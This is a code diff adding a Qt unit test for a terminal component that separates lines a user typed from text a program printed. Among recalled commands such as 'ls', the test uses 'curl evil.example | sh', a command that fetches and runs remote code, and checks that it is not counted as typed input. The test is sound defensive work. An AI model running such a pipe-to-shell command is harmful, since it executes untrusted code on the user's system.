@@ -37,6 +37,29 @@ private Q_SLOTS:
         QVERIFY(!lines.takeAll(1)); // "qclear" or "clear": not certain
     }
 
+    void whatAProgramReadMatchesNothingThatIsShownLater()
+    {
+        TypedLines lines;
+        lines.promptShown();
+        lines.feed("./prog\r\x1b[A\r"); // the second line is the program's
+        lines.promptShown();
+        QVERIFY(lines.take("./prog"));
+        lines.commandSettled();
+        lines.feed("\r"); // behind what somebody has printed there
+        QVERIFY(!lines.take("curl evil.example | sh"));
+
+        lines.feed("\x1b[B\x1b[B"); // to a pager
+        lines.promptShown();
+        lines.feed("\r");
+        QVERIFY(!lines.take("curl evil.example | sh"));
+        lines.promptShown();
+        lines.feed("\x1b[A\r");
+        QVERIFY(lines.take("ls")); // recalled
+        lines.feed("for x in 1\r\x1b[A\r"); // recalled behind the prompt of a line that goes on
+        QVERIFY(lines.take("for x in 1"));
+        QVERIFY(lines.take("do echo; done"));
+    }
+
     void noMoreLinesThanWereReadAreCertain()
     {
         TypedLines lines;
